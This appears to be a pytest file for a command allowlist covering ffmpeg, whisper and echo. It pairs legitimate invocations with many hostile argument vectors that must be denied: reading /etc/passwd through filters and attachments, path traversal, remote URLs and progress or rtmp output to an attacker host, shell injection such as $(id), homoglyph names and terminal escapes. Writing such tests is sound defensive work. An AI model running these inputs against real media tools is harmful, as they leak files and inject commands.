"""The files in allowlist.d, tried against what an attacker would send and what a user would."""

from pathlib import Path

import pytest

from runners.allowlist import Allowed, Denied, load

FOLDER = Path(__file__).parents[2] / "allowlist.d"
SHIPPED = load([str(FOLDER)])

FFMPEG_USEFUL = [
    "-y -i input1.mp4 -c:v libx264 output.mp4",
    "-i in.wav out.mp3",
    "-nostdin -hide_banner -loglevel error -y -i a.mkv -c copy b.mp4",
    "-y -i in.mp4 -c:v libx264 -preset slow -crf 22 -c:a aac -b:a 128k out.mp4",
    "-i in.mp4 -vf scale=1280:-2 out.mp4",
    "-i in.mp4 -vf scale=-1:720:flags=lanczos,fps=30,format=yuv420p out.mkv",
    "-ss 00:01:30.5 -t 10 -i in.mp4 -c copy cut.mp4",
    "-ss 90 -to 100.25 -i in.mkv -an cut.webm",
    "-i film.mkv -vn -c:a pcm_s16le -ac 1 -ar 16000 speech.wav",
    "-hwaccel cuda -i in.mp4 -c:v h264_nvenc -preset p5 -cq 23 -b:v 0 out.mp4",
    "-i in.mp4 -c:v libx265 -crf 28 -tag:v hvc1 -pix_fmt yuv420p10le out.mp4",
    "-i in.mp4 -ss 5 -frames:v 1 -q:v 2 thumb.jpg",
    "-i in.mp4 -map 0:v:0 -map 0:a? -map_metadata -1 -movflags +faststart out.mp4",
    "-i in.wav -af loudnorm=I=-16:TP=-1.5:LRA=11,volume=0.8 out.flac",
    "-f mp4 -protocol_whitelist file -i in.mp4 -progress pipe:1 -nostats -f matroska out.mkv",
    "-i a.mp4 -i b.wav -map 0:v -map 1:a -c:v copy -c:a aac -shortest out.mp4",
    "-i in.mp4 -b:v 2500k -maxrate 3M -bufsize 6M -r 30000/1001 -g 60 -threads 4 out.mp4",
    "-i in.mp4 -filter:v crop=640:480:0:0,transpose=1 -sn -dn out.webm",
]

FFMPEG_ATTACKS = [
    ["-i", "http://evil.example/a.mp4", "out.mp4"],
    ["-i", "https://evil.example/a.mp4"],
    ["-i", "/etc/passwd"],
    ["-i", "/etc/a.mp4"],
    ["-i", "../other/in.mp4"],
    ["-i", "sub/in.mp4"],
    ["-i", "file:in.mp4"],
    ["-i", "concat:a.mp4|b.mp4"],
    ["-i", "subfile,,start,0,end,99,,:/etc/a.mp4"],
    ["-i", "data:text/plain;base64,AAAA.mp4"],
    ["-i", "crypto:a.mp4"],
    ["-i", "tcp:h.mp4"],
    ["-i", "pipe:0"],
    ["-i", "-"],
    ["-i", "list.m3u8", "out.mp4"],
    ["-i", "list.m3u", "out.mp4"],
    ["-i", "manifest.mpd"],
    ["-i", "a.sdp"],
    ["-i", "frame%03d.mp4"],
    ["-i", "*.mp4"],
    ["-i", "-y.mp4"],
    ["-i", ".hidden.mp4"],
    ["-i", "in.mp4\n"],
    ["-i", "in.mp4\0.m3u8"],
    ["-i", "a.m3u8\n.mp4"],
    ["-i", "in.MP4"],
    ["-f", "concat", "-safe", "0", "-i", "list.mp4", "out.mp4"],
    ["-f", "concat", "-i", "list.mp4"],
    ["-f", "lavfi", "-i", "movie=/etc/passwd"],
    ["-f", "hls", "-i", "in.mp4"],
    ["-i", "in.mp4", "-f", "tee", "[f=mp4]a.mp4|/tmp/b.mp4"],
    ["-i", "in.mp4", "-f", "segment", "out.mp4"],
    ["-i", "in.mp4", "out.m3u8"],
    ["-i", "in.mp4", "-f", "hls", "out.mp4"],
    ["-i", "in.mp4", "/tmp/out.mp4"],
    ["-i", "in.mp4", "../out.mp4"],
    ["-i", "in.mp4", "rtmp://evil.example/x.mp4"],
    ["-i", "in.mp4", "tee:a.mp4"],
    ["-i", "in.mp4", "-filter_complex", "movie=x.mp4[a];[0:v][a]overlay", "out.mp4"],
    ["-i", "in.mp4", "-lavfi", "movie=x.mp4", "out.mp4"],
    ["-i", "in.mp4", "-filter_script:v", "s.txt", "out.mp4"],
    ["-i", "in.mp4", "-/vf", "s.txt", "out.mp4"],
    ["-i", "in.mp4", "-vf", "movie=x.mp4", "out.mp4"],
    ["-i", "in.mp4", "-vf", "scale=1:1,movie=/etc/passwd", "out.mp4"],
    ["-i", "in.mp4", "-vf", "scale=10:10movie=x", "out.mp4"],
    ["-i", "in.mp4", "-vf", "drawtext=textfile=/etc/passwd", "out.mp4"],
    ["-i", "in.mp4", "-vf", "subtitles=/etc/passwd", "out.mp4"],
    ["-i", "in.mp4", "-vf", "lut3d=/etc/passwd", "out.mp4"],
    ["-i", "in.mp4", "-vf", "scale=10:10;movie=x", "out.mp4"],
    ["-i", "in.mp4", "-vf", "scale=99999:99999", "out.mp4"],
    ["-i", "in.mp4", "-af", "amovie=/etc/passwd", "out.mp4"],
    ["-i", "in.mp4", "-attach", "/etc/passwd", "out.mkv"],
    ["-dump_attachment:t", "x", "-i", "in.mkv"],
    ["-i", "in.mp4", "-x264-params", "stats=/tmp/x", "out.mp4"],
    ["-i", "in.mp4", "-passlogfile", "/tmp/x", "out.mp4"],
    ["-i", "in.mp4", "-vstats_file", "/tmp/x", "out.mp4"],
    ["-report"],
    ["-progress", "http://evil.example/", "-i", "in.mp4"],
    ["-progress", "pipe:3"],
    ["-progress", "out.mp4"],
    ["-protocol_whitelist", "file,http,tcp", "-i", "in.mp4"],
    ["-i"],
    ["-y", "-i", "in.mp4", "-c:v"],
    ["-c:v", "-i", "in.mp4"],
    ["-c:v", "libx264;id", "out.mp4"],
    ["-init_hw_device", "cuda=x"],
    ["-sdp_file", "out.mp4"],
    ["$(id).mp4"],
    ["`id`.mp4"],
    ["a.mp4;id"],
    ["ou\u0442put.mp\u0664"],
    ["x" * 101 + ".mp4"],
]


def test_the_shipped_files_are_in_order():
    assert SHIPPED.problems == ()
    assert [rule.name for rule in SHIPPED.allowlist.rules] == ["echo", "ffmpeg", "whisper"]


@pytest.mark.parametrize("line", FFMPEG_USEFUL)
def test_ffmpeg_does_useful_work(line):
    assert isinstance(SHIPPED.allowlist.judge("ffmpeg", line.split()), Allowed)


@pytest.mark.parametrize("args", FFMPEG_ATTACKS)
def test_ffmpeg_refuses_tricks(args):
    assert isinstance(SHIPPED.allowlist.judge("ffmpeg", args), Denied)


def test_the_limits_of_the_specification():
    rule = SHIPPED.allowlist.find("ffmpeg")
    assert rule is not None
    assert (rule.max_total_args_len, rule.max_runtime_s, rule.max_output_mb) == (4096, 7200, 5000)
    assert rule.env == frozenset()


def test_no_bare_argument_of_ffmpeg_or_whisper_can_begin_with_a_dash_unless_it_is_an_option():
    for name in ("ffmpeg", "whisper"):
        rule = SHIPPED.allowlist.find(name)
        assert rule is not None
        bare = [group[0] for group in rule.groups if not group[0].text.startswith("-")]
        assert len(bare) == 1
        for argument in (b"-a.mp4", b"--a.mp4", b"-.mp4", b"/a.mp4", b"a:b.mp4", b"a/b.mp4", b"..mp4"):
            assert not bare[0].matches(argument)


@pytest.mark.parametrize(
    "line",
    [
        "talk.mp3",
        "talk.wav --model small --language en --output_format srt --output_dir .",
        "--model large-v3 --model_dir . --device cuda --fp16 True --task translate talk.m4a",
        "a.mp3 b.mp3 --model tiny.en --threads 4 --verbose False",
        "a.mp3 --word_timestamps True --max_line_width 42 --beam_size 5 --temperature 0",
    ],
)
def test_whisper_does_useful_work(line):
    assert isinstance(SHIPPED.allowlist.judge("whisper", line.split()), Allowed)


@pytest.mark.parametrize(
    "line",
    [
        "/etc/passwd",
        "../a.mp3",
        "http://evil.example/a.mp3",
        "a.m3u8",
        "a.mp3 --model ./evil.pt",
        "a.mp3 --model evil.pt",
        "a.mp3 --model=tiny",
        "a.mp3 --mod tiny",
        "a.mp3 --model_dir /tmp",
        "a.mp3 --output_dir /tmp",
        "a.mp3 --output_dir ..",
        "a.mp3 --output_dir",
        "a.mp3 --output_format exe",
        "a.mp3 --device cuda:0;id",
        "a.mp3 --initial_prompt x",
        "a.mp3 --language --model",
        "-- a.mp3",
    ],
)
def test_whisper_refuses_tricks(line):
    assert isinstance(SHIPPED.allowlist.judge("whisper", line.split()), Denied)


@pytest.mark.parametrize("args", [["hello", "world"], [], ["-n", "äöü €"], [""]])
def test_echo_prints_text(args):
    assert isinstance(SHIPPED.allowlist.judge("echo", args), Allowed)


@pytest.mark.parametrize("args", [["a\nb"], ["\x1b[31m"], ["\x85"], ["\u202e"], ["x" * 501], ["\0"]])
def test_echo_prints_nothing_that_drives_a_terminal(args):
    assert isinstance(SHIPPED.allowlist.judge("echo", args), Denied)
